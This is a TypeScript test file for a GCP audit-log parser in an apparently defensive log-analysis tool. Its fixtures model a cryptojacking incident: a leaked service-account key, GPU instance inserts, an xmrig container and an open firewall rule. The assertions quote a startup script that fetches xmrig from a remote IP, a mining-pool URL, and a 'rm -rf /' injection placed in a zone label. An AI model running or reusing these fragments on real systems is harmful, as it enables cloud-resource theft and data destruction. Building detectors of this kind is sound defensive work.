import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from './contract.js';
import { gcpAudit } from './gcp-audit.js';
import { sniffSource } from './index.js';
import { k8sAudit } from './k8s-audit.js';
import { ndjson } from './ndjson.js';
import type { SourceInput } from './types.js';

const good = fileInput('test/fixtures/gcp-audit/good.log');
const bad = fileInput('test/fixtures/gcp-audit/bad.log');
const gcloudRead = fileInput('test/fixtures/gcp-audit/gcloud-read.json');
const goodText = readFileSync('test/fixtures/gcp-audit/good.log', 'utf8');
const SA = 'ci-deployer@example-prod-123456.iam.gserviceaccount.com';
const KEY_ID = '6f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6';

runSourceContract({
  source: gcpAudit,
  good,
  bad,
  // the export copied while the GPU insert was written: it ends inside the startup-script value
  cut: cutLineCase(good, 3, '"key":"startup-script","value":"', 'cutminer-startup'),
});

async function unusedOf(input: SourceInput): Promise<number> {
  let unused = 0;
  for await (const batch of gcpAudit.read(input, TEST_CONTEXT)) unused += batch.unused ?? 0;
  return unused;
}

test('one cloud-change per call: an operation’s first and last entries are one event, other methods are unused', async () => {
  const { events } = await readAll(gcpAudit, good);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.dataset]).sort((a, b) => Number(a[0]) - Number(b[0])),
    [
      [1, 'gcp-audit.google.iam.admin.v1.CreateServiceAccountKey'],
      [2, 'gcp-audit.google.api.cloudquotas.v1.CloudQuotas.ListQuotaInfos'],
      [3, 'gcp-audit.compute.instances.insert'],
      [4, 'gcp-audit.compute.instances.insert'], // its last entry (line 5) is joined in
      [7, 'gcp-audit.compute.instances.bulkInsert'], // its last entry came first (line 6)
      [8, 'gcp-audit.compute.instances.start'],
      [9, 'gcp-audit.compute.instanceGroupManagers.resize'],
      [10, 'gcp-audit.compute.instances.insert'], // the group's insert: its last entry is not in the export
      [11, 'gcp-audit.compute.instanceTemplates.insert'],
      [12, 'gcp-audit.compute.firewalls.insert'],
      [16, 'gcp-audit.compute.instances.setMachineType'],
      [17, 'gcp-audit.google.api.serviceusage.v1.ServiceUsage.EnableService'],
    ],
  );
  assert.ok(events.every((e) => e.event.action === 'cloud-change' && e.event.kind === 'event'));
  // aggregatedList (13), a GKE pods.list (14), the guest agent's own log entry (15)
  assert.equal(await unusedOf(good), 3);
});

test('the leaked key’s GPU insert: principal, key, caller, instance from request and resource, decoded startup-script', async () => {
  const { events } = await readAll(gcpAudit, good);
  const insert = events.find((e) => e.coalmine.ref.line === 4);
  assert.ok(insert);
  assert.equal(insert['@timestamp'], '2026-11-03T02:11:03.980Z');
  assert.equal(insert.event.id, 'i1n5e7r8t9a');
  assert.equal(insert.event.outcome, 'success');
  assert.deepEqual(insert.event.category, ['configuration']);
  assert.deepEqual(insert.event.type, ['creation']);
  assert.equal(insert.host?.name, 'gcp:example-prod-123456');
  assert.deepEqual(insert.user, { name: SA });
  assert.deepEqual(insert.source, { ip: '203.0.113.77' });
  assert.match(insert.user_agent?.original ?? '', /^google-cloud-sdk gcloud\/467/);
  assert.deepEqual(insert.cloud, {
    provider: 'gcp',
    account: { id: 'example-prod-123456' },
    region: 'asia-southeast1',
    availability_zone: 'asia-southeast1-b',
    instance: { id: '7310452283941126001', name: 'gpu-node-1' },
    machine: { type: 'n1-standard-8' },
  });
  const cloud = insert.coalmine.cloud;
  assert.equal(cloud?.operation, 'beta.compute.instances.insert');
  assert.equal(cloud?.service, 'compute.googleapis.com');
  assert.deepEqual(cloud?.principal, { id: SA, type: 'serviceAccount', accessKeyId: KEY_ID });
  assert.equal(cloud?.count, 1);
  assert.equal(cloud?.instanceType, 'n1-standard-8');
  assert.equal(cloud?.image, 'projects/ubuntu-os-cloud/global/images/family/ubuntu-2204-lts');
  assert.deepEqual(cloud?.resources, [{ type: 'guestAccelerator', name: 'nvidia-tesla-t4:4' }]);
  assert.deepEqual(cloud?.tags, { team: 'ml' });
  assert.match(cloud?.userData ?? '', /^#!\/bin\/bash\ncurl -fsSL http:\/\/198\.51\.100\.23\/xmrig/);
  assert.match(cloud?.userData ?? '', /stratum\+tcp:\/\/pool\.supportxmr\.com:443/);
  assert.deepEqual(cloud?.instances, [
    {
      name: 'gpu-node-1',
      id: '7310452283941126001',
      zone: 'asia-southeast1-b',
      type: 'n1-standard-8',
      image: 'projects/ubuntu-os-cloud/global/images/family/ubuntu-2204-lts',
      tags: { team: 'ml' },
    },
  ]);
  // the payload's bodies are summarised, not carried; the joined last entry is kept beside it
  const payload = insert.original.protoPayload as Record<string, unknown>;
  assert.equal(payload.request, undefined);
  assert.equal(payload.methodName, 'beta.compute.instances.insert');
  assert.equal((insert.original.last as { insertId?: string }).insertId, 'i1n5e7r8t9b');
});

test('a denied insert is a failure that keeps what was asked; a failed operation takes its last entry’s status', async () => {
  const { events } = await readAll(gcpAudit, good);
  const denied = events.find((e) => e.coalmine.ref.line === 3);
  assert.equal(denied?.event.outcome, 'failure');
  assert.deepEqual(denied?.event.type, ['creation', 'denied']);
  assert.equal(denied?.coalmine.cloud?.errorCode, 'PERMISSION_DENIED');
  assert.match(denied?.coalmine.cloud?.errorMessage ?? '', /compute\.instances\.create/);
  assert.equal(denied?.host?.name, 'gcp:example-shared-789012');
  assert.deepEqual(denied?.cloud?.instance, { name: 'gpu-node-1' }); // an empty instance_id is no id

  const bulk = events.find((e) => e.event.dataset === 'gcp-audit.compute.instances.bulkInsert');
  assert.equal(bulk?.['@timestamp'], '2026-11-03T02:11:41.733Z'); // the first entry's time, not the last's
  assert.equal(bulk?.event.outcome, 'failure');
  assert.deepEqual(bulk?.event.type, ['creation']);
  const cloud = bulk?.coalmine.cloud;
  assert.equal(cloud?.count, 20);
  assert.equal(cloud?.instanceType, 'g2-standard-8');
  assert.equal(cloud?.errorCode, 'RESOURCE_EXHAUSTED');
  assert.equal(cloud?.errorMessage, 'ZONE_RESOURCE_POOL_EXHAUSTED');
  assert.deepEqual(cloud?.resources, [
    { type: 'provisioningModel', name: 'SPOT' },
    { type: 'namePattern', name: 'gpu-worker-####' },
  ]);
  assert.match(cloud?.userData ?? '', /--donate-level 1/); // a plain-text script stays as it is
});

test('groups, templates, firewalls, keys, quotas and machine types say what they change', async () => {
  const { events } = await readAll(gcpAudit, good);
  const at = (line: number) => events.find((e) => e.coalmine.ref.line === line)?.coalmine.cloud;
  assert.equal(at(9)?.count, 12);
  assert.deepEqual(at(9)?.resources, [{ type: 'instanceGroupManager', name: 'web-mig' }]);
  // an instance the group made: Google's agent, named as the one acting
  assert.deepEqual(at(10)?.principal, {
    id: '123456789012@cloudservices.gserviceaccount.com',
    type: 'serviceAccount',
    invokedBy: 'GCE Managed Instance Group',
  });
  assert.equal(events.find((e) => e.coalmine.ref.line === 10)?.source, undefined);
  const template = at(11);
  assert.equal(template?.instanceType, 'a2-highgpu-8g');
  assert.deepEqual(template?.containers, [{ image: 'docker.io/metminer/xmrig:6.21.0' }]);
  assert.equal(template?.userData, '# startup-script-url\ngs://pub-bucket-4471/boot.sh');
  assert.deepEqual(template?.tags, { env: 'prod' });
  assert.deepEqual(at(12)?.resources, [
    { type: 'firewall', name: 'allow-all-ssh' },
    { type: 'sourceRange', name: '0.0.0.0/0' },
    { type: 'allowed', name: 'tcp:22,3389' },
  ]);
  const key = events.find((e) => e.coalmine.ref.line === 1);
  assert.deepEqual(key?.event.category, ['iam']);
  assert.deepEqual(key?.coalmine.cloud?.resources, [
    { type: 'serviceAccount', name: SA },
    { type: 'serviceAccountKey', name: KEY_ID },
  ]);
  const quota = events.find((e) => e.coalmine.ref.line === 2);
  assert.deepEqual(quota?.event.type, ['access']);
  assert.deepEqual(quota?.coalmine.cloud?.resources, [{ type: 'quota', name: 'compute.googleapis.com' }]);
  // a BigQuery export row: protopayload_auditlog, the body as requestJson text, times with ' UTC'
  const bq = events.find((e) => e.coalmine.ref.line === 16);
  assert.equal(bq?.['@timestamp'], '2026-11-03T02:13:05.400Z');
  assert.equal(bq?.coalmine.cloud?.instanceType, 'c2d-highcpu-112');
  assert.deepEqual(bq?.cloud?.instance, { id: '5029384756102938475', name: 'render-03' });
  assert.deepEqual(at(17)?.resources, [{ type: 'service', name: 'compute.googleapis.com' }]);
});

test('gcloud logging read output (one array, newest first) gives the same joined events as the lines', async () => {
  const fromDocument = await readAll(gcpAudit, gcloudRead);
  assert.deepEqual(fromDocument.issues, []);
  const lines = await readAll(gcpAudit, good);
  const summary = (e: (typeof lines.events)[number]) => [e['@timestamp'], e.event.outcome, e.coalmine.cloud];
  const want = lines.events.filter((e) => e.coalmine.ref.line === 3 || e.coalmine.ref.line === 4).map(summary);
  assert.deepEqual(fromDocument.events.map(summary).sort(), want.sort());
  assert.equal(sniffSource(gcloudRead)?.name, 'gcp-audit');
});

test('hostile fields are bounded: scripts clipped to 4 KiB, labels and items capped, non-addresses and odd codes kept harmless', async () => {
  const entry = {
    logName: 'projects/example-prod-123456/logs/cloudaudit.googleapis.com%2Factivity',
    timestamp: '2026-11-03T03:00:00Z',
    resource: { type: 'gce_instance', labels: { project_id: 'example-prod-123456', zone: 'us-east1-b; rm -rf /' } },
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      methodName: 'v1.compute.instances.insert',
      status: { code: 99, message: 'x'.repeat(5000) },
      authenticationInfo: { principalEmail: `${'a'.repeat(2000)}@example.com` },
      requestMetadata: { callerIp: 'gce-internal-ip', callerSuppliedUserAgent: 'u'.repeat(5000) },
      resourceName: 'projects/example-prod-123456/zones/us-east1-b/instances/big',
      request: {
        machineType: { nested: true },
        labels: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${i}`, 'v'])),
        metadata: {
          items: [
            ...Array.from({ length: 500 }, (_, i) => ({ key: `junk-${i}`, value: 'x' })),
            { key: 'startup-script', value: 'echo mine\n'.repeat(2000) },
          ],
        },
        guestAccelerators: Array.from({ length: 100 }, () => ({
          acceleratorType: 'nvidia-h100-80gb',
          acceleratorCount: 8,
        })),
        networkInterfaces: [
          { networkIP: '10.0.0.5', accessConfigs: [{ natIP: 'not-an-ip' }, { natIP: '203.0.113.9' }] },
        ],
      },
    },
  };
  const { events, issues } = await readAll(gcpAudit, memoryInput('hostile.log', `${JSON.stringify(entry)}\n`));
  assert.deepEqual(issues, []);
  const [e] = events;
  const cloud = e.coalmine.cloud;
  assert.equal(Object.keys(cloud?.tags ?? {}).length, 64);
  // items past the first 64 are not read: this script sat at 501
  assert.equal(cloud?.userData, undefined);
  assert.ok((cloud?.resources?.length ?? 0) <= 32);
  assert.equal(cloud?.instanceType, undefined);
  assert.equal(cloud?.errorCode, 'code 99');
  assert.ok((cloud?.errorMessage?.length ?? 0) < 1100);
  assert.ok((e.user?.name?.length ?? 0) < 300);
  assert.ok((e.user_agent?.original?.length ?? 0) < 600);
  assert.equal(e.source, undefined);
  assert.equal(e.cloud?.availability_zone, 'us-east1-b'); // from the path: the label is no zone name
  assert.deepEqual(cloud?.instances?.[0].privateIps, ['10.0.0.5']);
  assert.deepEqual(cloud?.instances?.[0].publicIps, ['203.0.113.9']);

  const script = structuredClone(entry);
  script.protoPayload.request.metadata.items = [{ key: 'startup-script', value: 'echo mine\n'.repeat(2000) }];
  const long = await readAll(gcpAudit, memoryInput('script.log', `${JSON.stringify(script)}\n`));
  assert.ok((long.events[0].coalmine.cloud?.userData?.length ?? 0) <= 4096 + 16);
});

test('operations held for their other entry are bounded and none is lost', async () => {
  const lines: string[] = [];
  for (let i = 0; i < 1500; i++)
    lines.push(
      JSON.stringify({
        logName: 'projects/example-prod-123456/logs/cloudaudit.googleapis.com%2Factivity',
        timestamp: new Date(Date.UTC(2026, 10, 3, 4) + i * 1000).toISOString(),
        operation: { id: `operation-${i}`, first: true, producer: 'compute.googleapis.com' },
        protoPayload: {
          '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
          methodName: 'v1.compute.instances.insert',
          resourceName: `projects/example-prod-123456/zones/us-central1-a/instances/vm-${i}`,
        },
      }),
    );
  const { events, issues } = await readAll(gcpAudit, memoryInput('ops.log', `${lines.join('\n')}\n`));
  assert.deepEqual(issues, []);
  assert.equal(events.length, 1500);
  assert.equal(new Set(events.map((e) => e.cloud?.instance?.name)).size, 1500);
});

test('sniffed from its own first line or document; Kubernetes audit, ndjson and VPC flow lines are not Cloud Audit Logs', () => {
  assert.equal(sniffSource(good)?.name, 'gcp-audit');
  const first = goodText.split('\n')[0];
  assert.equal(k8sAudit.sniff(first, { name: 'a.log' }), 0);
  assert.equal(ndjson.sniff(first, { name: 'a.log' }), 0);
  // a line the head cut short is still recognised by its type
  assert.ok(gcpAudit.sniff(first.slice(0, 400), { name: 'a.log' }) > 0);
  const k8s =
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a","stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods"}}';
  assert.equal(gcpAudit.sniff(k8s, { name: 'k.log' }), 0);
  const flow =
    '{"insertId":"f1","jsonPayload":{"connection":{"src_ip":"10.0.0.2","dest_ip":"198.51.100.9","src_port":40000,"dest_port":3333,"protocol":6},"reporter":"SRC","bytes_sent":"100"},"logName":"projects/p/logs/compute.googleapis.com%2Fvpc_flows","timestamp":"2026-11-03T00:00:00Z"}';
  assert.equal(gcpAudit.sniff(flow, { name: 'f.log' }), 0);
});

test('fuzz: a damaged export never throws; every issue has a line and every event is a cloud-change', async () => {
  let seed = 7;
  const rand = (n: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  const bytes = Buffer.from(goodText);
  for (let round = 0; round < 60; round++) {
    const copy = Buffer.from(bytes.subarray(0, round % 3 === 0 ? rand(bytes.length) : bytes.length));
    for (let flips = 0; flips < 1 + rand(6); flips++)
      copy[rand(copy.length)] = [0x22, 0x7b, 0x7d, 0x5d, 0x2c, 0x00, 0x0a, 0x31][rand(8)];
    const { events, issues } = await readAll(gcpAudit, memoryInput(`fuzz-${round}.log`, copy));
    for (const i of issues) assert.ok(i.line !== undefined && i.line >= 1, `${i.code} without a line`);
    for (const e of events) assert.equal(e.event.action, 'cloud-change');
  }
});

test('a newest-first file (gcloud logging read prints the newest entry first) is read in time order, no event lost', async () => {
  const inOrder = await readAll(gcpAudit, good);
  const lines = goodText.split('\n').filter((l) => l.trim() !== '');
  const documentEntries = JSON.parse(readFileSync('test/fixtures/gcp-audit/gcloud-read.json', 'utf8')) as unknown[];
  const newestFirst = [
    memoryInput('newest-first.log', `${lines.reverse().join('\n')}\n`),
    memoryInput('newest-first.json', JSON.stringify(documentEntries.reverse(), null, 2)),
  ];
  for (const input of newestFirst) {
    const { events, issues } = await readAll(gcpAudit, input);
    assert.deepEqual(issues, [], input.name);
    assert.ok(events.length >= 2, input.name);
    const times = events.map((e) => e.coalmine.ts);
    assert.deepEqual(
      times,
      [...times].sort((a, b) => a - b),
      `${input.name} is not in time order`,
    );
  }
  assert.equal(
    (await readAll(gcpAudit, memoryInput('n.log', `${lines.join('\n')}\n`))).events.length,
    inOrder.events.length,
  );
});
